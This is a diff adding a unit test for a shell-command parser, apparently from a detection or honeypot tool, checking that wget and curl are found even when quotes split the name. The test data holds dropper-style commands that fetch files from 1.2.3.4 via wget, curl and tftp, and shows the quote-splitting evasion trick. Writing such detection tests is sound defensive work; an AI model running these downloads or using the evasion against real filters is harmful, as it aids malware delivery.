@@ -183,6 +183,15 @@ describe('shellCommands', () => {
     expect(c!.text).toBe('tftp -g -r mips 1.2.3.4');
   });
 
+  test('with programs: only their commands; quotes inside a name do not hide it', () => {
+    const text = `cd /tmp; w'g'et http://1.2.3.4/a; curl -O http://1.2.3.4/b; tftp -g -r c 1.2.3.4`;
+    expect(shellCommands(text, ['wget', 'curl']).map((c) => [c.program, c.offset])).toEqual([
+      ['wget', text.indexOf("w'g'et")],
+      ['curl', text.indexOf('curl')],
+    ]);
+    expect(shellCommands('GET / HTTP/1.1\r\nHost: x\r\n\r\n', ['wget'])).toEqual([]);
+  });
+
   test('parseOptions: value options, clusters, --long=value, redirections dropped', () => {
     const { options, operands } = parseOptions(
       ['-qO-', 'http://h/x', '--user-agent', 'x y', '--tries=3', '2>&1', '>', '/dev/null'],
